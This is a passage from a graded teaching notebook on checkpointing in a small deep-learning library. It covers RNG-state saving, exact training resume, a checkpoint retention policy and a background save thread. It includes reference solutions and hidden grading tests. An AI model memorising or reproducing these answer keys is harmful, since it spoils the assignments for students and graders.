#   shuffling generator with its position in the epoch;
# * a `GradScaler`'s scale and counters (module 11) when the trainer has one
#   (`trainer.scaler`).
#
# Generators export their state: NumPy's `bit_generator.state` is a small
# dict of integers (JSON), the legacy global one is 624 words and a
# position. CuPy's cuRAND state cannot be exported; at save time we draw a
# fresh seed from it, *reseed it* with that seed and store the seed — the
# run that saved and the run that resumes then continue from the same
# state. (So saving on a GPU changes the random stream of the saving run;
# it stays reproducible, just not equal to a run that never saved.)
#
# Module 01 gives both halves: `get_rng_state()` returns `{"tinyflo": ...,
# "numpy": ...}` (and `"cupy": seed` with a GPU) as JSON data, and
# `set_rng_state(state)` puts them back — checking the state before it
# changes anything, and rebuilding a generator of the kind the state names
# (never assuming PCG64). A checkpoint stores the first and calls the second.

# %%
saved_rng = get_rng_state()
expected = tinyflo.randn(3).numpy()
tinyflo.manual_seed(6)
rng_tensors: dict = {}  # the legacy generator's 624 words go into the file as a tensor, the rest into JSON
set_rng_state(_decode(json.loads(json.dumps(_encode(saved_rng, "rng", rng_tensors))), rng_tensors, "demo"))
print("tinyflo's generator goes on where it was saved:", np.array_equal(tinyflo.randn(3).numpy(), expected))

# %% [markdown]
# **Which loader?** The Trainer remembers the last loader `train_epoch` got
# (`trainer.train_loader`). When a checkpoint is loaded before the loader
# is known (a fresh process builds the trainer, loads, then calls `fit`),
# the loader's state waits in the trainer and is applied to the next loader
# `train_epoch` receives; or pass `train_loader=` to `load_checkpoint`.
# Checkpoints are taken between epochs (the `ModelCheckpoint` callback
# below) or wherever your own loop calls `save_checkpoint`: the loader's
# state records the batch it reached, so a loop of your own can resume
# mid-epoch too.
#
# ### Task `checkpoints_resume` (2 points): counters, history, loader and GradScaler
#
# * `_training_state(trainer, tensors)` returns a dict with `"trainer"`
#   (`trainer.state_dict()`), `"loader"` (the state of
#   `trainer.train_loader` when it has one, else `None`) and `"scaler"`
#   (the state_dict of `getattr(trainer, "scaler", None)` when there is
#   one, else `None`) — encoded with `_encode(value, key, tensors)`.
# * `_restore_training_state(trainer, state, train_loader)` is its inverse:
#   the trainer's counters and history, the scaler's state (a
#   `CheckpointError` naming the scaler when the file has one and the
#   trainer none), the random generators (`set_rng_state`), and the
#   loader's state: into `train_loader` if given, else into
#   `trainer.train_loader` if it has one, else kept in
#   `trainer.pending_loader_state` for the next `train_epoch`.
#
# **Checked when graded** (besides the tests below), with seeds and a
# GradScaler state drawn for you:
#
# * the optimizer state is the same as without a stop: the largest difference is 0
# * no train_loader given and none known to the trainer: the loader's state waits in trainer.pending_loader_state
# * without train_loader=, the trainer's own loader (trainer.train_loader) gets the state
# * a trainer's GradScaler state (trainer.scaler) is saved and restored
# * a saved GradScaler state and a trainer without a scaler: expected a CheckpointError
# * the error must name the scaler

# %% nbgrader={"grade": false, "grade_id": "checkpoints_resume_code", "locked": false, "schema_version": 3, "solution": true}
#| export
def _training_state(trainer: Any, tensors: dict[str, np.ndarray]) -> dict[str, Any]:
    """The trainer's counters and history, its loader's position and its GradScaler's state, as JSON data."""
    ### BEGIN SOLUTION
    loader = getattr(trainer, "train_loader", None)
    scaler = getattr(trainer, "scaler", None)
    return {
        "trainer": _encode(trainer.state_dict(), "trainer", tensors),
        "loader": _encode(loader.state_dict(), "loader", tensors) if hasattr(loader, "state_dict") else None,
        "scaler": _encode(scaler.state_dict(), "scaler", tensors) if scaler is not None else None,
    }
    ### END SOLUTION


def _restore_training_state(trainer: Any, state: Mapping[str, Any], train_loader: Any = None) -> None:
    """Put back what ``_training_state`` and ``get_rng_state`` saved."""
    ### BEGIN SOLUTION
    scaler = getattr(trainer, "scaler", None)
    if state.get("scaler") is not None:
        if scaler is None:
            raise CheckpointError("load_checkpoint: the checkpoint holds a GradScaler's state but the trainer "
                                  "has no scaler; build the Trainer with amp='float16' (its precision plug-in keeps a GradScaler) before loading")
        scaler.load_state_dict(state["scaler"])
    trainer.load_state_dict(state["trainer"])
    if state.get("rng") is not None:
        set_rng_state(state["rng"])
    loader_state = state.get("loader")
    if loader_state is not None:
        loader = train_loader if train_loader is not None else getattr(trainer, "train_loader", None)
        if loader is not None:
            loader.load_state_dict(loader_state)
        else:
            trainer.pending_loader_state = loader_state
    ### END SOLUTION


# %% [markdown]
# The test: two epochs (shuffling, dropout, a warm-up + cosine schedule per
# step, AdamW), save, then a *fresh* model, optimizer, loader and trainer —
# after the global seed was changed on purpose — load and train one more
# epoch. The result must equal three epochs without a stop, exactly.
# (`trainer.save_checkpoint(path)` and `trainer.load_checkpoint(path)` call
# these same functions from the package; here we call the notebook's.)

# %% nbgrader={"grade": true, "grade_id": "checkpoints_resume", "locked": true, "points": 2, "schema_version": 3, "solution": false}
_rs = np.random.default_rng(0)
RX, RY = _rs.standard_normal((48, 6)).astype(np.float32), _rs.integers(0, 3, 48)


def _run(seed=0):
    tinyflo.manual_seed(seed)
    model = Sequential(Linear(6, 16), ReLU(), Dropout(0.3), Linear(16, 3))
    opt = AdamW(model.parameters(), lr=1e-2)
    loader = DataLoader(TensorDataset(RX, RY), batch_size=10, shuffle=True, seed=seed + 1)
    sched = Warmup(CosineAnnealing(12), warmup_steps=3)
    trainer = Trainer(model, opt, cross_entropy, scheduler=sched, scheduler_interval="step", verbosity="quiet")
    return trainer, loader


straight, straight_loader = _run()
straight.fit(straight_loader, epochs=3)
first, first_loader = _run()
first.fit(first_loader, epochs=2)
resume_path = save_checkpoint(WORK / "resume.safetensors", trainer=first)
tinyflo.manual_seed(1234)
np.random.seed(99)
second, second_loader = _run(seed=7)
load_checkpoint(resume_path, trainer=second, train_loader=second_loader)
assert second.step == first.step and second.epoch == 2 and len(second.history["train_loss"]) == 2, \
    "the trainer's counters and history are restored"
second.fit(second_loader, epochs=1)
for a, b in zip(straight.model.parameters(), second.model.parameters()):
    assert np.array_equal(a.numpy(), b.numpy()), "resume must be exact, bit for bit"
assert straight.history["train_loss"] == second.history["train_loss"], "the loss history goes on as without a stop"
### BEGIN HIDDEN TESTS
# This student's own seeds and GradScaler state.
_seed = int(check_rng.integers(2, 1000))
_scale = float(2.0 ** int(check_rng.integers(3, 15)))
_growth = [int(v) for v in check_rng.integers(0, 50, 2)]
sa, sb = straight.optimizer.state_dict()["state"], second.optimizer.state_dict()["state"]
_gap = max(float(np.max(np.abs(np.asarray(sa[i][k], float) - np.asarray(sb[i][k], float)))) for i in sa for k in sa[i])
assert _gap == 0.0, "the optimizer state is the same as without a stop: the largest difference is 0"
third, third_loader = _run(seed=_seed)
load_checkpoint(resume_path, trainer=third)
assert third.pending_loader_state == first_loader.state_dict(), \
    "no train_loader given and none known to the trainer: the loader's state waits in trainer.pending_loader_state"
third.pending_loader_state = None
_, loader_only = _run(seed=_seed + 1)
third.train_loader = loader_only
load_checkpoint(resume_path, trainer=third)
assert loader_only.rng.state_dict() == first_loader.rng.state_dict(), \
    "without train_loader=, the trainer's own loader (trainer.train_loader) gets the state"


class _Scaler:
    def __init__(self, scale=65536.0, growth=(0, 0)):
        self.scale, self.growth = scale, np.array(growth, np.int32)

    def state_dict(self):
        return {"scale": self.scale, "growth_tracker": self.growth}

    def load_state_dict(self, state):
        self.scale, self.growth = state["scale"], np.asarray(state["growth_tracker"])


class _Scaling(Precision):  # a precision plug-in that keeps a scaler (module 11 has the real one)
    pass


first.precision = _Scaling()
first.scaler = _Scaler(_scale, _growth)
scaled_path = save_checkpoint(WORK / "scaled.safetensors", trainer=first)
fourth, _ = _run(seed=_seed + 2)
fourth.precision = _Scaling()
fourth.scaler = _Scaler()
load_checkpoint(scaled_path, trainer=fourth)
assert [float(fourth.scaler.scale), *fourth.scaler.growth.tolist()] == [_scale, *_growth], \
    "a trainer's GradScaler state (trainer.scaler) is saved and restored"
fifth, _ = _run(seed=_seed + 3)
scaled_tensors, scaled_state, _ = read_checkpoint(scaled_path)
try:
    _restore_training_state(fifth, _decode(scaled_state, scaled_tensors, str(scaled_path)))
    raise AssertionError("a saved GradScaler state and a trainer without a scaler: expected a CheckpointError")
except CheckpointError as err:
    _said = str(err)
assert "scaler" in _said, "the error must name the scaler"
### END HIDDEN TESTS

# %% [markdown]
# ## The Trainer's checkpoint plug-in
#
# Module 08's Trainer saves and loads through a checkpoint plug-in:
# `trainer.save_checkpoint(path)` and `trainer.load_checkpoint(path)` call
# this module's `save_checkpoint(path, trainer=...)` and
# `load_checkpoint(path, trainer=...)` once it is registered as the
# Trainer's `"checkpoint"` plug-in. (With data parallelism, the strategy
# plug-in of module 12 decides which process writes and makes the replicas
# agree after a load.)

# %%
#| export
class SafetensorsCheckpoints(CheckpointIO):
    """The Trainer's checkpoint plug-in: the complete training state in one safetensors file."""

    def save(self, trainer: Any, path: str | os.PathLike, **options: Any) -> Path:
        return save_checkpoint(path, trainer=trainer, **options)

    def load(self, trainer: Any, path: str | os.PathLike, **options: Any) -> LoadReport:
        return load_checkpoint(path, trainer=trainer, **options)


register_plugin("checkpoint", SafetensorsCheckpoints)

# %% [markdown]
# ## How big is a checkpoint?
#
# The 784-512-512-10 MLP of the benchmarks, in float32, with Adam:

# %%
_mlp = Sequential(Linear(784, 512), ReLU(), Linear(512, 512), ReLU(), Linear(512, 10))
_params = _mlp.num_parameters()
print(f"{_params:,} parameters = {_params * 4 / 2**20:.2f} MiB; with Adam's two moments "
      f"{3 * _params * 4 / 2**20:.2f} MiB (3x): the moments are as large as the weights, each")

# %% [markdown]
# A 7-billion-parameter model in bf16 is 14 GB of weights; with Adam's two
# fp32 moments and fp32 master weights it is 14 + 3 × 28 = 98 GB per
# checkpoint — which is why large runs keep only a few of them, and why the
# save must not stop training while it writes.
#
# ## Retention and saving in the background
#
# A run that saves every epoch fills the disk. `CheckpointManager(directory,
# keep_last=3, keep_best=None, monitor="val_loss", mode="min",
# keep_every=None, background=False, prefix="ckpt")` names the files
# `<prefix>-<step>.safetensors`, records every file it keeps in
# `<prefix>-manifest.json` (written atomically, like everything else) and
# deletes a file only *after* the new one is safely in place, keeping
#
# * the last `keep_last` checkpoints;
# * the `keep_best` with the best monitored metric (`min` or `max`; a
#   checkpoint without the metric never counts as best);
# * every checkpoint whose step is a multiple of `keep_every`.
#
# Each prefix has its own manifest, and a manager only ever deletes files
# its manifest lists under its own prefix: two managers (say `prefix="best"`
# and `prefix="last"`) can share a folder. A manager never deletes files it
# did not write: the temporary files of a save that was killed
# (`.<name>.tmp-<random>`) stay until you delete them — another process may
# be writing one right now. A `monitor` that the trainer's history lacks is
# an error (a typo would otherwise switch `keep_best` off silently).
#
# **What is not saved:** the state of callbacks — `EarlyStopping`'s and
# `BestModel`'s counters and best values start afresh after a resume.
#
# ### Task `checkpoints_retention` (2 points): which checkpoints to keep
#
# `retained(entries, keep_last, keep_best, mode, keep_every)` takes the
# manifest's entries (dicts with `"step"` and `"metric"`, oldest first) and
# returns the list of entries to keep, in their order: the last
# `keep_last`, the `keep_best` best by `"metric"` (smallest for
# `mode="min"`, largest for `"max"`; a metric that is `None` or NaN never
# counts as best), and every entry whose step is a multiple of
# `keep_every` — each rule only when its argument is not `None`.
#
# **Checked when graded** (besides the tests below), with metrics, steps,
# counts and where a metric is missing drawn for you:
#
# * a NaN metric never counts as best
# * a missing metric (None) never counts as best; `keep_last=None` keeps no last ones
# * `mode='max'`: the largest metrics are best
# * `keep_last` larger than the history keeps all
# * `keep_every` looks at the step, not at the position

# %% nbgrader={"grade": false, "grade_id": "checkpoints_retention_code", "locked": false, "schema_version": 3, "solution": true}
#| export
def retained(entries: list[dict[str, Any]], keep_last: int | None = 3, keep_best: int | None = None,
             mode: str = "min", keep_every: int | None = None) -> list[dict[str, Any]]:
    """The entries (oldest first) a retention policy keeps: the last, the best, and every k-th step."""
    ### BEGIN SOLUTION
    keep = set()
    if keep_last:
        keep.update(range(max(len(entries) - keep_last, 0), len(entries)))
    if keep_best:
        scored = [i for i, e in enumerate(entries) if e.get("metric") is not None and not math.isnan(e["metric"])]
        scored.sort(key=lambda i: entries[i]["metric"] if mode == "min" else -entries[i]["metric"])
        keep.update(scored[:keep_best])
    if keep_every:
        keep.update(i for i, e in enumerate(entries) if e["step"] % keep_every == 0)
    return [e for i, e in enumerate(entries) if i in keep]
    ### END SOLUTION


# %% nbgrader={"grade": true, "grade_id": "checkpoints_retention", "locked": true, "points": 2, "schema_version": 3, "solution": false}
def _entries(metrics):
    return [{"step": s, "metric": m} for s, m in zip(range(1, len(metrics) + 1), metrics)]


def _steps(kept):
    return [e["step"] for e in kept]


history = _entries([5.0, 1.0, 4.0, 3.0, 6.0, 7.0])
assert _steps(retained(history, keep_last=2)) == [5, 6], "keep_last=2: the last two"
assert _steps(retained(history, keep_last=1, keep_best=2)) == [2, 4, 6], "keep_best=2: the two smallest metrics, too"
assert _steps(retained(history, keep_last=1, keep_best=1, mode="max")) == [6], "mode='max': the largest metric is best"
assert _steps(retained(history, keep_last=1, keep_every=3)) == [3, 6], "keep_every=3: every step that is a multiple of 3"
### BEGIN HIDDEN TESTS
# This student's own inputs: check_rng is seeded from the course, the student and the task.
_rs_n = int(check_rng.integers(6, 12))
_rs_metrics = [float(m) for m in check_rng.permutation(_rs_n) + 1.0]
_rs_holes = check_rng.choice(_rs_n - 1, 2, replace=False)  # never the last
_rs_best = int(check_rng.integers(2, 5))
_rs_nan = [float(m) for m in np.cumsum(check_rng.uniform(0.1, 2.0, _rs_n))]  # rising: the first ones are the best
_rs_nan[int(check_rng.integers(1, _rs_best))] = float("nan")  # among them
assert _steps(retained(_entries(_rs_nan), keep_last=1, keep_best=_rs_best)) == \
    sorted({_rs_n} | {s for s, m in zip(range(1, _rs_n + 1), _rs_nan) if m == m and
                      sorted(x for x in _rs_nan if x == x).index(m) < _rs_best}), "a NaN metric never counts as best"
_rs_none = list(_rs_metrics)
_rs_none[int(_rs_holes[1])] = None
assert _steps(retained(_entries(_rs_none), keep_last=None, keep_best=_rs_best)) == \
    sorted(s for s, m in zip(range(1, _rs_n + 1), _rs_none) if m is not None and
           sorted(x for x in _rs_none if x is not None).index(m) < _rs_best), \
    "a missing metric (None) never counts as best; keep_last=None keeps no last ones"
assert _steps(retained(_entries(_rs_metrics), keep_last=_rs_best, keep_best=_rs_best, mode="max")) == \
    sorted(set(range(_rs_n - _rs_best + 1, _rs_n + 1)) | {s for s, m in zip(range(1, _rs_n + 1), _rs_metrics)
                                                           if m > _rs_n - _rs_best}), \
    "mode='max': the largest metrics are best"
assert _steps(retained(_entries(_rs_metrics), keep_last=_rs_n + int(check_rng.integers(0, 5)))) == \
    list(range(1, _rs_n + 1)), "keep_last larger than the history keeps all"
_rs_every = int(check_rng.integers(2, 5))
_rs_at = sorted(int(s) for s in check_rng.choice(np.arange(1, 60), _rs_n, replace=False))
assert _steps(retained([{"step": s, "metric": 1.0} for s in _rs_at], keep_last=None, keep_every=_rs_every)) == \
    [s for s in _rs_at if s % _rs_every == 0], "keep_every looks at the step, not at the position"
### END HIDDEN TESTS

# %% [markdown]
# **In the background.** Writing 100 MB takes a noticeable fraction of a
# second; the training loop need not wait. The state is *copied to host
# memory first*, synchronously — the next optimizer step would otherwise
# change the weights while they are being written — and a worker thread
# writes the copy. At most one write is pending: a second `save()` waits
# for the first. An error in the worker must not vanish: it is raised again
# by the next `save()`, `wait()` or `close()` — the snapshot whose write
# failed is dropped (the previous checkpoints stay), so save again after
# fixing the cause.
#
# ### Task `checkpoints_background` (1 point): one save at a time, on a worker thread
#
# `BackgroundSaver.submit(fn)` waits for the pending job (which raises its
# error, if it had one), then runs `fn` on a new worker thread whose target
# is `self._run` (given: it stores any exception in `self._error`);
# `wait()` joins the thread and raises a stored error once (and forgets
# it). `CheckpointManager` (given after your code) saves through it.
#
# **Checked when graded** (besides the tests below), with a number of jobs,
# a pause and an error text drawn for you:
#
# * the manifest survives: a new manager finds the same checkpoints
# * at most one pending write: each job waits for the one before it
# * a failure in the worker must surface on the next submit
# * the worker's own error comes through, its text unchanged
# * a failure in the worker must surface on `close()`
# * an error is raised once, then forgotten: `wait()` after it raises nothing

# %% nbgrader={"grade": false, "grade_id": "checkpoints_background_code", "locked": false, "schema_version": 3, "solution": true}
#| export
class BackgroundSaver:
    """Runs one save at a time on a worker thread; a failure is raised by the next submit(), wait() or close()."""

    def __init__(self) -> None:
        self._thread: threading.Thread | None = None
        self._error: BaseException | None = None

    def _run(self, fn: Callable[[], Any]) -> None:
        try:
            fn()
        except BaseException as err:  # kept for the caller's thread: an error must not vanish with the worker
            self._error = err

    def submit(self, fn: Callable[[], Any]) -> None:
        """Run ``fn`` on a worker thread, after the pending one (whose error, if any, is raised here)."""
        ### BEGIN SOLUTION
        self.wait()
        self._thread = threading.Thread(target=self._run, args=(fn,), name="tinyflo-checkpoint")
        self._thread.start()
        ### END SOLUTION

    def wait(self) -> None:
        """Wait for the pending job; raise its error, once."""
        ### BEGIN SOLUTION
        if self._thread is not None:
            self._thread.join()
            self._thread = None
        error, self._error = self._error, None
        if error is not None:
            raise error
        ### END SOLUTION

    def close(self) -> None:
        """Wait for the pending job (raising its error)."""
        self.wait()

    def __enter__(self) -> BackgroundSaver:
        return self

    def __exit__(self, *exc: Any) -> None:
        self.close()


# %%
#| export
class CheckpointManager:
    """Saves checkpoints into a folder and keeps the last N, the best by a metric, and every k-th.

    One manifest per prefix (``<prefix>-manifest.json``); only files listed there under this prefix are ever
    deleted, so managers with different prefixes can share a folder. Temporary files of killed saves are left
    alone (another process may be writing one). Callback state (EarlyStopping, BestModel) is not saved.
    """

    def __init__(self, directory: str | os.PathLike, keep_last: int | None = 3, keep_best: int | None = None,
                 monitor: str = "val_loss", mode: str = "min", keep_every: int | None = None,
                 background: bool = False, prefix: str = "ckpt") -> None:
        for name, value in (("keep_last", keep_last), ("keep_best", keep_best), ("keep_every", keep_every)):
            if value is not None and (isinstance(value, bool) or not isinstance(value, int) or value < 1):
                raise ValueError(f"CheckpointManager: {name} must be a positive integer or None; got {brief(value)}")
        if not (keep_last or keep_best or keep_every):
            raise ValueError("CheckpointManager: keep_last, keep_best and keep_every are all None; nothing would be kept")
        if not isinstance(mode, str) or mode not in ("min", "max"):
            raise ValueError(f"CheckpointManager: mode must be 'min' or 'max'; got {brief(mode)}")
        if not isinstance(prefix, str) or not re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9_.-]*", prefix):
            raise ValueError(f"CheckpointManager: prefix must be a plain file-name part (letters, digits, _ . -); "
                             f"got {prefix!r}")
        if isinstance(directory, bytes) or not isinstance(directory, str | os.PathLike) or not str(directory):
            raise TypeError(f"CheckpointManager: directory must be a folder's path (a str or os.PathLike); "
                            f"got {described(directory)}")
        self.directory = Path(directory)
        if self.directory.exists() and not self.directory.is_dir():
            raise NotADirectoryError(f"CheckpointManager: directory {str(directory)!r} is a file; expected a folder "
                                     "(made if missing)")
        try:
            self.directory.mkdir(parents=True, exist_ok=True)
        except OSError as err:
            raise type(err)(f"CheckpointManager: directory {str(directory)!r} cannot be made: "
                            f"{err.strerror or err}") from None
        self.keep_last, self.keep_best, self.keep_every = keep_last, keep_best, keep_every
        self.monitor, self.mode, self.prefix = monitor, mode, prefix
        self.manifest_path = self.directory / f"{prefix}-manifest.json"
        self._pattern = re.compile(rf"{re.escape(prefix)}-\d{{8,}}\.safetensors")
        self._lock = threading.Lock()
        self._saver = BackgroundSaver() if background else None
        self.entries: list[dict[str, Any]] = []
        if self.manifest_path.exists():
            self.entries = [e for e in self._read_manifest() if (self.directory / e["file"]).exists()]

    def _read_manifest(self) -> list[dict[str, Any]]:
        """The manifest's entries, each checked: a damaged manifest is a CheckpointError naming the file."""
        where = self.manifest_path
        try:
            manifest = json.loads(where.read_text())
        except (ValueError, RecursionError) as err:
            raise CheckpointError(f"{where}: the manifest is not valid JSON ({str(err):.100}); "
                                  "delete or repair it") from None
        entries = manifest.get("checkpoints") if isinstance(manifest, dict) else None
        if not isinstance(entries, list):
            raise CheckpointError(f"{where}: the manifest is damaged: expected an object with a 'checkpoints' list")
        for e in entries:
            if not (isinstance(e, dict) and isinstance(e.get("file"), str) and self._pattern.fullmatch(e["file"])
                    and isinstance(e.get("step"), int)
                    and (e.get("metric") is None or isinstance(e["metric"], int | float))):
                raise CheckpointError(f"{where}: the manifest is damaged: entry {e!r:.100} is not "
                                      f"{{'file': '{self.prefix}-<step>.safetensors', 'step': int, 'metric': number}}")
        return entries

    def __repr__(self) -> str:
        return (f"CheckpointManager({str(self.directory)!r}, {len(self.entries)} kept, keep_last={self.keep_last}, "
                f"keep_best={self.keep_best}, keep_every={self.keep_every})")

    def path_for(self, step: int) -> Path:
        """The file name of the checkpoint at ``step``."""
        return self.directory / f"{self.prefix}-{step:08d}.safetensors"

    def save(self, source: Any, step: int | None = None, metric: float | None = None) -> Path:
        """Save a Trainer (or a CheckpointState) as the checkpoint of ``step``; apply the retention policy.

        With ``background=True`` the write happens on a worker thread; if it fails, that snapshot is dropped
        (the checkpoints kept before stay) and the error is raised by the next save(), wait() or close().
        """
        if isinstance(source, CheckpointState):
            snapshot = source
            if step is None:
                raise ValueError("CheckpointManager.save: step= is needed with a CheckpointState")
        else:
            snapshot = capture_state(trainer=source)  # host copies, now: training may go on meanwhile
            step = source.step if step is None else step
            if metric is None and self.keep_best and source.history and self.monitor not in source.history:
                raise ValueError(f"CheckpointManager: monitor={self.monitor!r} is not in the trainer's history; "
                                 f"it has {sorted(source.history)}")
            if metric is None and source.history.get(self.monitor):
                metric = source.history[self.monitor][-1]
        step = int(step)
        path = self.path_for(step)
        metric = None if metric is None or math.isnan(float(metric)) else float(metric)
        job = lambda: self._commit(write_state(path, snapshot), step, metric)  # noqa: E731
        if self._saver is None:
            job()
        else:
            self._saver.submit(job)
        return path

    def _commit(self, path: Path, step: int, metric: float | None) -> None:
        """Record the new file in the manifest, then delete the files the policy no longer keeps."""
        with self._lock:
            entries = [e for e in self.entries if e["file"] != path.name]
            entries.append({"file": path.name, "step": step, "metric": metric})
            kept = retained(entries, self.keep_last, self.keep_best, self.mode, self.keep_every)
            manifest = {"monitor": self.monitor, "mode": self.mode, "checkpoints": kept}
            atomic_write(self.manifest_path, lambda f: f.write(json.dumps(manifest, indent=1).encode()))
            self.entries = kept
            for e in entries:
                if e not in kept and self._pattern.fullmatch(e["file"]):  # only our own files, never a path
                    (self.directory / e["file"]).unlink(missing_ok=True)

    def _present(self) -> list[dict[str, Any]]:
        return [e for e in self.entries if (self.directory / e["file"]).exists()]

    def latest(self) -> Path | None:
        """The newest checkpoint kept whose file exists (after any pending background save)."""
        self.wait()
        present = self._present()
        return self.directory / present[-1]["file"] if present else None

    def best(self) -> Path | None:
        """The kept checkpoint (whose file exists) with the best metric (None when none has one)."""
        self.wait()
        scored = [e for e in self._present() if e.get("metric") is not None]
        if not scored:
            return None
        pick = min if self.mode == "min" else max
        return self.directory / pick(scored, key=lambda e: e["metric"])["file"]

    def wait(self) -> None:
        """Wait for a pending background save; raise its error if it failed."""
        if self._saver is not None:
            self._saver.wait()

    def close(self) -> None:
        """Finish the pending save (raising its error)."""
        self.wait()

    def __enter__(self) -> CheckpointManager:
        return self

    def __exit__(self, *exc: Any) -> None:
        self.close()


class ModelCheckpoint(Callback):
    """Save the trainer through a CheckpointManager after every ``every``-th epoch."""

    def __init__(self, manager: CheckpointManager, every: int = 1) -> None:
        if not isinstance(manager, CheckpointManager):
            raise TypeError(f"ModelCheckpoint: manager must be a CheckpointManager; got {type(manager).__name__}")
        if isinstance(every, bool) or not isinstance(every, int) or every < 1:
            raise ValueError(f"ModelCheckpoint: every must be a positive integer; got {brief(every)}")
        self.manager, self.every = manager, every

    def on_epoch_end(self, trainer: Any) -> None:
        if trainer.epoch % self.every == 0:
            self.manager.save(trainer)

    def on_train_end(self, trainer: Any) -> None:
        self.manager.wait()


# %% nbgrader={"grade": true, "grade_id": "checkpoints_background", "locked": true, "points": 1, "schema_version": 3, "solution": false}
saver = BackgroundSaver()
threads = []
saver.submit(lambda: threads.append(threading.current_thread()))
saver.wait()
assert [t is threading.current_thread() for t in threads] == [False], "the job runs once, on a worker thread"
trainer, loader = _run()
with CheckpointManager(WORK / "runs", keep_last=2, monitor="train_loss", keep_best=1, background=True) as manager:
    trainer.fit(loader, epochs=4, callbacks=[ModelCheckpoint(manager)])
    kept = sorted(p.name for p in (WORK / "runs").glob("*.safetensors"))
    best_step = 5 * (1 + int(np.argmin(trainer.history["train_loss"])))
    assert manager.latest().name == "ckpt-00000020.safetensors", "the newest checkpoint is the last epoch's"
    assert manager.best().name == f"ckpt-{best_step:08d}.safetensors", "the best checkpoint is the lowest train_loss's"
    assert set(kept) == {"ckpt-00000015.safetensors", "ckpt-00000020.safetensors", manager.best().name}, \
        "the last two and the best are kept, the rest deleted"
### BEGIN HIDDEN TESTS
reopened = CheckpointManager(WORK / "runs", keep_last=2)
assert reopened.latest() == manager.latest(), "the manifest survives: a new manager finds the same checkpoints"
# This student's own jobs: how many, how long the first one takes, the text of the error.
_jobs = int(check_rng.integers(2, 5))
_pause = float(check_rng.uniform(0.03, 0.08))
_text = f"disk full on volume {int(check_rng.integers(100, 1000))}"
order = []


def _slow():
    import time
    time.sleep(_pause)
    order.append(0)


def _fails():
    raise OSError(_text)


saver.submit(_slow)
for _k in range(1, _jobs):
    saver.submit(lambda _k=_k: order.append(_k))
saver.wait()
assert order == list(range(_jobs)), "at most one pending write: each job waits for the one before it"
saver.submit(_fails)
try:
    saver.submit(lambda: None)
    raise AssertionError("a failure in the worker must surface on the next submit")
except OSError as err:
    _said = str(err)
assert _said == _text, "the worker's own error comes through, its text unchanged"
saver.wait()
saver.submit(_fails)
try:
    saver.close()
    raise AssertionError("a failure in the worker must surface on close()")
except OSError:
    pass
try:
    saver.wait()
    _again = ""
except OSError as err:
    _again = str(err)
assert _again == "", "an error is raised once, then forgotten: wait() after it raises nothing"
### END HIDDEN TESTS

# %% [markdown]
# ## Systems corner
#
# * **Throughput.** A save is: copy to host (memory bandwidth), SHA-256
#   (about 0.5–2 GB/s per core), write (the page cache: memory speed), and
#   `fsync` (the disk: from 100 MB/s to several GB/s). `python -m
#   benchmarks.bench_checkpoint` measures each against `np.save` and the
#   reference `safetensors` writer.
# * **Loading without copies.** `np.frombuffer` on the file's bytes makes
#   arrays that share that buffer; `np.memmap` would go further and read
#   pages only when touched — how large models start in seconds.
# * **Background saves** cost one host copy of the state (memory!) and
#   compete with training for memory bandwidth and, for SHA-256, for a core.
# * **Crash safety is tested by killing**: the package's tests start a
#   process that saves in a loop and `SIGKILL` it at random moments, dozens
#   of times; after each kill the file at the path must load and verify.

# %%
_workdir.cleanup()  # remove every file this notebook wrote
